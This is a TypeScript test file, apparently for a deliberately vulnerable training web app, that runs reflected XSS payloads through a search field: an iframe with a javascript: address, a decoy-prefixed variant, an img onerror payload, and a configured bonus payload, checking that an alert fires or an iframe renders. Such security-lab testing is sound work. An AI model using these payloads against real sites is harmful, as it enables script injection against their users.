import type { Attack, Tools } from '#lab'
import { search } from './steps.ts'

const PAYLOAD = '<iframe src="javascript:alert(`xss`)">'

/** The script has to run: its alert box counts. */
async function expectAlert({ browser, expect }: Tools): Promise<void> {
  expect((await browser.alerts()).includes('xss'), 'no script ran')
}

/** The player has to be an element of the page, not text. */
async function expectFrame({ browser, expect }: Tools): Promise<void> {
  const html = (await browser.html('#searchValue')) ?? ''
  expect(/<iframe\b/i.test(html), 'the page only shows text')
}

export const attacks: Attack[] = [
  {
    challenge: 'localXssChallenge',
    name: 'an iframe with a javascript: address',
    runs: 'browser',
    run: async (tools) => {
      await search(tools, PAYLOAD)
      await expectAlert(tools)
    },
  },
  {
    challenge: 'localXssChallenge',
    name: 'the payload behind a decoy',
    runs: 'browser',
    run: async (tools) => {
      await search(tools, `<>${PAYLOAD}`)
      await expectAlert(tools)
    },
  },
  {
    challenge: 'localXssChallenge',
    name: 'a picture that fails on purpose',
    runs: 'browser',
    run: async (tools) => {
      await search(tools, `<img src="data:," onerror="alert(\`xss\`)">${PAYLOAD}`)
      await expectAlert(tools)
    },
  },
  {
    challenge: 'xssBonusChallenge',
    name: 'the player of another track',
    runs: 'browser',
    run: async (tools) => {
      await search(tools, tools.settings.xssBonusPayload)
      await expectFrame(tools)
    },
  },
  {
    challenge: 'xssBonusChallenge',
    name: 'the player behind a decoy',
    runs: 'browser',
    run: async (tools) => {
      await search(tools, `<>${tools.settings.xssBonusPayload}`)
      await expectFrame(tools)
    },
  },
]
